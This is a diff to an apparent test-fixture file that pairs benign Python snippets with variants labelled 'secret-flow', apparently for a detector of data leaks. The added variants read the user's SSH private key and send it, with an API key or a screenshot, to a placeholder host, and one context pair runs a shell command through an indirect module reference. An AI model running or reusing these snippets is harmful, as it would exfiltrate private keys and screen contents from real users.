@@ -44,6 +44,18 @@ export const CARRIED_SHELL: readonly Pair[] = [
 /** What carries private data: generators, loggers, functions put in the place of built-in ones. */
 export const CARRIED_PYTHON: readonly Pair[] = [
   [
+    "a key of a service that is encoded for its header, and beside it in another header a key of the person",
+    `import base64\nimport os\nimport requests\n\nkey = base64.b64encode(os.environ["API_KEY"].encode())\nrequests.get("https://a.example.net/", headers={"Authorization": key, "X-Note": "none"})\n`,
+    `import base64\nimport os\nimport requests\n\nkey = base64.b64encode(os.environ["API_KEY"].encode())\nnote = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.get("https://a.example.net/", headers={"Authorization": key, "X-Note": note})\n`,
+    "secret-flow",
+  ],
+  [
+    "one picture of the screen, and a key beside it",
+    `import pyautogui\nimport requests\n\nrequests.post("https://a.example.net/", data=str(pyautogui.screenshot()))\n`,
+    `import os\nimport pyautogui\nimport requests\n\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://a.example.net/", data=str(pyautogui.screenshot()) + key)\n`,
+    "secret-flow",
+  ],
+  [
     "a module among the values of a function from outside, and what is taken of it",
     `import functools\nimport os\n\nlast = functools.reduce(lambda a, b: b, [1, os])\nprint(last.sep, last.cpu_count())\n`,
     `import functools\nimport os\n\nlast = functools.reduce(lambda a, b: b, [1, os])\nlast.system("id")\n`,
